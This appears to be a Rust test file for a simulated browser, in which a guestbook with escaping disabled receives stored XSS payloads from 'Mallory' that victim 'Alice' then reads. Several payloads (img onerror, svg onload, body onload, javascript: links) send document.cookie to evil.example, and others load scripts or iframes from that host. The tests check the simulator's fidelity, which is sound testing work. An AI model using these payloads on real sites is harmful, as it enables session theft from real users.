//! What guests write into the book may be script in an attribute. It runs as in browsers (`tests/browser/facts/attributes.rs`),
//! or it is said that it does not.

use serde_json::{Value, json};

use crate::harness::TestApp;

/// Mallory writes this into the book, which does not escape it; Alice, who is logged in, reads there.
async fn read_by_alice(text: &str, then: &str) -> Value {
    let app = TestApp::start();
    for (switch, value) in [("http_only", json!(false)), ("escape_output", json!(false))] {
        app.switch(switch, value).await;
    }
    let write = format!("open https://hotel.grand.example/book\nsubmit \"write\" text=\"{text}\"");
    app.does("mallory", "act", &write).await;
    app.does(
        "alice",
        "act",
        "open https://hotel.grand.example/login\nsubmit \"log in\" guest=alice password={{alice.password}}",
    )
    .await;
    app.does("alice", "act", &format!("open https://hotel.grand.example/book\n{then}")).await
}

#[tokio::test]
async fn script_in_attributes_sends_the_cookie_away() {
    let away = "location='https://evil.example/?c='+encodeURIComponent(document.cookie)";
    for (shape, then) in [
        ("<img src=x onerror=SCRIPT>", ""),
        ("<svg onload=SCRIPT>", ""),
        ("<body onload=SCRIPT>", ""),
        ("<a href=javascript:SCRIPT>menu</a>", "click \"menu\"\n"),
    ] {
        let told = read_by_alice(&shape.replace("SCRIPT", away), &format!("{then}capture loot = query c")).await;
        assert!(told.to_string().contains("evil.example/?c=sid%3D"), "{shape}: {told}");
        assert!(!told.to_string().contains("does not do"), "{shape}: {told}");
    }
}

#[tokio::test]
async fn a_picture_is_asked_for_with_what_the_jar_has() {
    let told = read_by_alice("<img src=/count>", "=> 200").await;
    assert!(told.to_string().contains("https://hotel.grand.example/count"), "{told}");
}

#[tokio::test]
async fn what_does_not_run_here_is_said() {
    for (shape, tag) in [
        ("<details open ontoggle=go()>", "<details ontoggle=go()>"),
        ("<p onmouseover=go()>x</p>", "<p onmouseover=go()>"),
        ("<script src=https://evil.example/x.js></script>", "<script src=https://evil.example/x.js>"),
        ("<iframe src=https://evil.example/></iframe>", "<iframe src=https://evil.example/>"),
        ("<img src=x onerror=alert(1)>", "alert(1)"),
    ] {
        let told = read_by_alice(shape, "=> 200").await;
        let says = told.to_string();
        assert!(says.contains("does something that a simulated browser does not do"), "{shape}: {says}");
        assert!(says.contains(tag), "{shape}: {says}");
    }
}
